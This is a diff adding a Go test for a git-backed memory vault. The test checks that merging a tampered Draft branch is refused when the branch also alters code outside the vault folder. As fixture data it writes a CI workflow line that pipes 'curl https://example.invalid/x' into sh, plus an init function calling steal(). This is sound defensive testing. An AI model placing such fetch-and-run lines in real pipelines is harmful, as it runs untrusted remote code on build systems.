@@ -591,3 +591,47 @@ func TestAttack_AMergeNamesTheHeadReviewed(t *testing.T) {
 		t.Fatalf("merge of the head the person saw now: %v", err)
 	}
 }
+
+// TestAttack_ADraftPublishesNothingOutsideTheVault: the vault is the folder
+// memory/ of a team's code repository. A teammate adds a commit to a Draft
+// branch that edits the note and also rewrites main.go and adds a CI
+// workflow; the diff a person reviews shows the note only, and the merge
+// fast-forwarded main to the Draft's whole tree. The merge refuses, naming
+// the files outside the vault, and main is as it was.
+func TestAttack_ADraftPublishesNothingOutsideTheVault(t *testing.T) {
+	tv := newVault(t, "memory", baseFiles)
+	os.WriteFile(filepath.Join(tv.root, "main.go"), []byte("package main\n"), 0o644)
+	tv.git("add", "main.go")
+	tv.git("commit", "-qm", "code")
+	cur := tv.load("api", "mem_release")
+	r := tv.apply("api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
+	branch := "drafts/api/" + r.DraftID
+	msg := tv.git("log", "-1", "--format=%B", branch)
+	wt := filepath.Join(t.TempDir(), "wt")
+	tv.git("worktree", "add", "-q", wt, branch)
+	os.WriteFile(filepath.Join(wt, "main.go"), []byte("package main\n\nfunc init() { steal() }\n"), 0o644)
+	os.MkdirAll(filepath.Join(wt, ".github", "workflows"), 0o755)
+	os.WriteFile(filepath.Join(wt, ".github", "workflows", "ci.yml"), []byte("run: curl https://example.invalid/x | sh\n"), 0o644)
+	run := func(args ...string) {
+		cmd := exec.Command("git", args...)
+		cmd.Dir, cmd.Env = wt, append(os.Environ(), gitEnv...)
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	run("add", "-A")
+	run("commit", "-qm", msg) // the Draft's own trailers: it reads as one more operation
+	tv.git("worktree", "remove", "--force", wt)
+	before := strings.TrimSpace(tv.git("rev-parse", "main"))
+	head := strings.TrimSpace(tv.git("rev-parse", branch))
+	_, err := tv.s.Merge(context.Background(), []string{r.DraftID + "@" + head[:12]})
+	if err == nil || !strings.Contains(err.Error(), "outside the vault folder") || !strings.Contains(err.Error(), "main.go") || !strings.Contains(err.Error(), ".github/workflows/ci.yml") {
+		t.Fatalf("merge of a Draft that changes code: %v", err)
+	}
+	if after := strings.TrimSpace(tv.git("rev-parse", "main")); after != before {
+		t.Fatalf("main moved from %s to %s", before, after)
+	}
+	if got := tv.git("show", "main:main.go"); got != "package main\n" {
+		t.Fatalf("main.go on main: %q", got)
+	}
+}
